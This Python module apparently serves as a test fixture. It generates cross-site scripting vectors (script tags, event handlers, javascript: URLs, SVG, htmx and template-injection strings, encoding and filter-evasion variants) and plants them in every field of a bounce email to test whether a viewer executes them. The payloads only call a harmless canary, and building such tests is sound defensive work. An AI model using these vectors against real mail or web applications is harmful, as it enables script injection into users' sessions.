"""Ways to make a browser run what is only text, and the places of a mail in which they stand.

A vector that runs calls ``alarm`` or asks the network for ``alarm.invalid``. They are put together
from ways to begin (out of which context they break) and payloads; written for this test, after the
kinds that the HTML standard's parser and scripting sections describe.
"""

import base64
from collections.abc import Callable, Iterator, Sequence

_CALLS = ("alarm(1)", "window.alarm(1)", "alarm`1`", "top['al'+'arm'](1)", "&#97;larm(1)")
_BREAKS = ("", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>",
           "</pre>", "</option></select>", "`>", "</noscript>", "</template>", "\x00", "\u2028",
           "\u202e", "\u2068", "\u2069\u2069")  # fmt: skip
_BREAKS_EACH = 5
_ELEMENTS = (
    "<script>{}</script>", "<script/x>{}</script >", "<ScRiPt>{}</sCrIpT>",
    "<script src=//alarm.invalid/x></script>", "<img src=x onerror={}>",
    "<img src=//alarm.invalid/x>", "<image/src/onerror={}>", "<svg onload={}>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>", "<svg><use href=//alarm.invalid/x#a></svg>",
    "<math><mtext><script>{}</script>", "<body onload={}>", "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>parent.{}</script>'>", "<iframe src=//alarm.invalid/>",
    "<object data=//alarm.invalid/x>", "<embed src=//alarm.invalid/x>",
    "<link rel=stylesheet href=//alarm.invalid/x>", "<link rel=prefetch href=//alarm.invalid/x>",
    "<style>@import '//alarm.invalid/x';</style>",
    "<style>*{{background:url(//alarm.invalid/x)}}</style>",
    "<p style=background:url(//alarm.invalid/x)>", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>", "<video src=//alarm.invalid/x onerror={}>",
    "<audio src=x onerror={}>", "<video><source onerror={}>", "<marquee onstart={}>",
    "<meta http-equiv=refresh content='0;url=//alarm.invalid/'>",
    "<base href=//alarm.invalid/>", "<form action=//alarm.invalid/><button autofocus>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>", "<div onpointerrawupdate={}>x</div>",
    "<x contenteditable autofocus onfocus={}>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<isindex type=image onerror={}>",
    "<div hx-get=//alarm.invalid/x hx-trigger=load>", "<div data-hx-get=/ hx-trigger=load>",
    "<div hx-on::load={}>", "<div hx-on:htmx:load={}>", "<div hx-vals='js:{{x:{}}}'>",
    "<script type=module>{}</script>", "<script type=text/hyperscript>init {}</script>",
    "{{{{ {} }}}}", "{{% import os %}}", "${{{}}}", "javascript:{}", "data:text/html,<script>{}",
    "\u003cimg src=x onerror={}\u003e", "%3Cimg src=x onerror={}%3E",
    "&lt;img src=x onerror={}&gt;",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<<script>{}//<</script>", "<img src=x onerror={}//", "<scr\x00ipt>{}</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror={}>", "<plaintext onmouseover={}>", "<xmp><img src=x onerror={}>",
)  # fmt: skip


def vectors() -> Iterator[str]:
    """Yield vectors: each element behind some of the breaks, so that each break has many."""
    number = 0
    for element in _ELEMENTS:
        for _ in range(_BREAKS_EACH):
            before, call = _BREAKS[number % len(_BREAKS)], _CALLS[number % len(_CALLS)]
            number += 1
            yield before + element.replace("{}", call).replace("{{", "{").replace("}}", "}")


Encode = Callable[[str], str]


def _words(encoding: str, charset: str) -> Encode:
    def encode(text: str) -> str:
        octets = text.encode(charset, "replace")
        if encoding == "B":
            said = base64.b64encode(octets).decode()
        else:
            said = "".join(f"={octet:02X}" for octet in octets)
        return f"=?{charset}?{encoding}?{said}?="

    return encode


ENCODINGS: dict[str, Encode] = {
    "as it is": lambda text: text,
    "base64 words": _words("B", "utf-8"),
    "quoted words": _words("Q", "utf-8"),
    "utf-16 words": _words("B", "utf-16"),
    "utf-7 words": _words("Q", "utf-7"),
    "percent": lambda text: "".join(f"%{octet:02X}" for octet in text.encode()),
    "entities": lambda text: "".join(f"&#{ord(letter)};" for letter in text),
}


def make_mail(vectors: Sequence[str], encode: Encode) -> bytes:
    """Return a bounce with vectors in every field that a report shows.

    Each has a recipient and a station of its own; the fields that a mail has once hold one of them,
    and the header all.
    """
    lines = [" ".join(vector.split()) for vector in vectors]
    line, said = lines[0], encode(lines[0])
    address = f'"{line}"@example.net'
    stations = "".join(
        f"Received: from {one} (helo {one}) by {one} with {one} id {one}"
        f" for <a@example.net>; Sun, 1 Mar 2026 10:00:0{number % 10} +0100\n"
        for number, one in enumerate(lines)
    )
    others = "".join(f"X-{number}: {encode(one)}\n" for number, one in enumerate(lines))
    original = (
        f"{stations}From: {said} <{address}>\nTo: {said} <{address}>\nCc: {said}\n"
        f"Subject: {said}\nMessage-ID: <{line}@example.com>\nDate: {line}\n"
        f"Content-Language: {line}\n{others}"
    )
    recipients = "".join(
        f'Original-Recipient: rfc822; {one}\nFinal-Recipient: rfc822; "{one}"@example.net\n'
        f"Action: failed\nStatus: 5.{1 + number % 7}.1\nRemote-MTA: dns; {one}\n"
        f"Diagnostic-Code: smtp; 550 5.1.1 {one} {encode(one)} user unknown http://{one}/\n"
        f"Last-Attempt-Date: {one}\n\n"
        for number, one in enumerate(lines)
    )
    text = (
        f"From: {said} <MAILER-DAEMON@example.net>\nSubject: {said}\nMIME-Version: 1.0\n"
        "Content-Type: multipart/report; report-type=delivery-status; boundary=b\n\n"
        f"--b\nContent-Type: text/html; charset=utf-8\n\n<p>{' '.join(vectors)}</p>\n"
        "--b\nContent-Type: message/delivery-status\n\n"
        f"Reporting-MTA: dns; {line}\nOriginal-Envelope-Id: {line}\n\n{recipients}"
        f"--b\nContent-Type: message/rfc822\n\n{original}\n{' '.join(vectors)}\n--b--\n"
    )
    return text.encode("utf-8", "surrogatepass")
